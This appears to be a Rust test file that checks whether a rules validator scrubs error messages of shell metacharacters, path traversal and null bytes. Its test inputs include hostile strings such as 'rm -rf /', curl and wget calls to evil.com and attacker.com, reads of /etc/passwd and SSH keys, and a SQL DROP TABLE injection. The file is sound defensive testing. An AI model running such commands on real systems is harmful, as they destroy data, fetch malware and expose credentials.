use clu::analysis::heuristics::sanitize_error_string;
use clu::analysis::rules_file::{validate_heuristics_source, RuleItem, RulesDocument, RulesSource, TomlEntry, TomlScalar};

// The file named by `path` could not be read: the library is handed the
// read error's message, as the caller that opens the file hands it over.
fn validate_file_safely(path: &str) -> Result<(), Vec<String>> {
    validate_heuristics_source(
        path,
        RulesSource::Unreadable("No such file or directory (os error 2)".to_string()),
    )
}

fn contains_active_shell_metachar(s: &str) -> bool {
    let dangerous = [
        "`;", "`", "$(", "${", "&&", "||", "|", "&", ";", "\n/", "'\n", "\"\n",
    ];
    dangerous.iter().any(|d| s.contains(d))
}

fn has_quote_injection(s: &str) -> bool {
    if s.contains("'; ") || s.contains("'&&") || s.contains("'||") {
        return true;
    }
    s.contains("\"; ") || s.contains("\"&&") || s.contains("\"||")
}

fn text(s: &str) -> TomlScalar {
    TomlScalar::Text(s.to_string())
}

fn entry(k: &str, v: TomlScalar) -> TomlEntry {
    TomlEntry { key: k.to_string(), value: v }
}

// The rule file, as the TOML parser hands it over.
fn validate_rules(rules: Vec<Vec<TomlEntry>>) -> Result<(), Vec<String>> {
    let items = rules.into_iter().map(RuleItem::Table).collect();
    validate_heuristics_source("test_injection.toml", RulesSource::Parsed(RulesDocument::Rules(items)))
}

fn has_path_traversal_risk(s: &str) -> bool {
    s.matches("../").count() > 2 || s.matches("..\\").count() > 2
}

#[test]
fn test_malicious_file_path_in_errors() {
    let dangerous_paths = vec![
        "; rm -rf /",
        "$(whoami)",
        "`id`",
        "| cat /etc/passwd",
        "& curl attacker.com",
        "\n/bin/bash",
        "../../../etc/passwd",
    ];

    for path in dangerous_paths {
        let result = validate_file_safely(path);
        if let Err(errors) = result {
            for error in errors {
                assert!(
                    !contains_active_shell_metachar(&error),
                    "Error message contains dangerous characters: {}",
                    error
                );
            }
        }
    }
}

#[test]
fn test_path_traversal_in_file_path() {
    let traversal_paths = vec![
        "../../../etc/passwd",
        "..\\..\\..\\windows\\system32\\config\\sam",
        "/etc/passwd",
        "../../../../root/.ssh/id_rsa",
    ];

    for path in traversal_paths {
        let result = validate_file_safely(path);
        assert!(result.is_err(), "Should fail for path: {}", path);
        if let Err(errors) = result {
            for error in &errors {
                assert!(
                    error.contains("Failed to read") || error.contains("Invalid TOML"),
                    "Expected failure error for: {}. Got: {}",
                    path,
                    error
                );
                assert!(!has_path_traversal_risk(error), "Error has path traversal risk: {}", error);
            }
        }
    }
}

#[test]
fn test_null_byte_injection() {
    let null_byte_cases = vec!["test\0.toml", "rules\x00.toml", "injection\0; rm -rf /"];

    for path in null_byte_cases {
        let result = validate_file_safely(path);
        if let Err(errors) = result {
            for error in &errors {
                assert!(!error.contains('\0'), "Error contains null byte");
                assert!(!error.contains("\\x00"), "Error contains null byte escape");
            }
        }
    }
}

#[test]
fn scrubbed_text_is_echo_safe() {
    let nasty = "a;b|c&d$e`f'g\"h\\i\u{7}j\tk\n".repeat(20);
    let out = sanitize_error_string(&nasty);
    assert!(out.chars().count() <= 200);
    for c in out.chars() {
        assert!(!";|&$`'\"\\".contains(c));
        assert!(!c.is_control() || c == '\t');
    }
    assert_eq!(sanitize_error_string("../../../../x"), "[path-traversal-attempt]");
}

#[test]
fn test_malicious_rule_names() {
    let malicious_names = vec![
        "; touch /tmp/pwned",
        "$(curl http://evil.com)",
        "`wget http://attacker.com/malware`",
        "test'; DROP TABLE rules; --",
        "../../../etc/shadow",
        "\\x00injection",
        "\n/bin/sh",
    ];
    for name in malicious_names {
        // A keyword rule missing its required fields, so validation fails.
        let result = validate_rules(vec![vec![entry("name", text(name)), entry("type", text("keyword"))]]);
        let errors = result.expect_err("incomplete rule must be reported");
        for error in &errors {
            assert!(!contains_active_shell_metachar(error), "Error contains active shell metachar: {}", error);
            assert!(!has_quote_injection(error), "Error has quote injection vulnerability: {}", error);
        }
    }
}

#[test]
fn test_malicious_regex_patterns() {
    let malicious_patterns = vec![
        r#".*"; touch /tmp/owned; echo ""#,
        r#".*`/bin/bash`.*"#,
        r#".*$(curl evil.com).*"#,
        r#".*\x00../../../etc/passwd"#,
    ];
    for pattern in malicious_patterns {
        let result = validate_rules(vec![vec![
            entry("name", text("injection_test")),
            entry("type", text("regex")),
            entry("field", text("description")),
            entry("pattern", text(pattern)),
            entry("risk_score", TomlScalar::Integer(50)),
            entry("description", text("Test")),
        ]]);
        if let Err(errors) = result {
            for error in &errors {
                assert!(!contains_active_shell_metachar(error), "Pattern error contains shell metachar: {}", error);
            }
        }
    }
}

#[test]
fn test_toml_syntax_error_messages() {
    // The parser's message quotes the offending line of the file.
    let message = "TOML parse error at line 5, column 8\n  |\n5 | evil = `curl http://attacker.com`\n  |        ^\ninvalid string\nexpected `\"`, `'`\n";
    let result = validate_heuristics_source("test_toml_injection.toml", RulesSource::BadSyntax(message.to_string()));
    let errors = result.expect_err("a syntax error must be reported");
    for error in &errors {
        assert!(!contains_active_shell_metachar(error), "TOML error contains dangerous chars: {}", error);
    }
}

#[test]
fn test_error_message_format_safety() {
    let test_cases = vec![
        ("Missing field with ; injection", "field\"; touch /tmp/pwned; echo \""),
        ("Backtick injection", "`whoami`"),
        ("Command substitution", "$(id)"),
        ("Pipe injection", "| cat /etc/passwd"),
        ("Newline injection", "test\n/bin/bash\n"),
    ];
    for (test_name, dangerous_value) in test_cases {
        let result = validate_rules(vec![vec![
            entry("name", text("test")),
            entry("type", text("metadata")),
            entry("field", text(dangerous_value)),
            entry("check", text("is_none")),
            entry("risk_score", TomlScalar::Integer(50)),
            entry("description", text("Test")),
        ]]);
        if let Err(errors) = result {
            for error in &errors {
                assert!(!error.contains("`;"), "{}: Error has backtick-semicolon sequence: {}", test_name, error);
                assert!(!error.contains("&&"), "{}: Error has && sequence: {}", test_name, error);
                assert!(!error.contains("||"), "{}: Error has || sequence: {}", test_name, error);
            }
        }
    }
}

#[test]
fn unreadable_file_message_shows_the_scrubbed_path() {
    let errors = validate_file_safely("../../../etc/passwd_missing").expect_err("an unreadable file is reported");
    assert_eq!(
        errors,
        vec!["Failed to read file [[path-traversal-attempt]]: No such file or directory (os error 2)".to_string()]
    );
    let errors = validate_file_safely("../rules;x.toml").expect_err("an unreadable file is reported");
    assert_eq!(
        errors,
        vec!["Failed to read file [../rules x.toml]: No such file or directory (os error 2)".to_string()]
    );
}
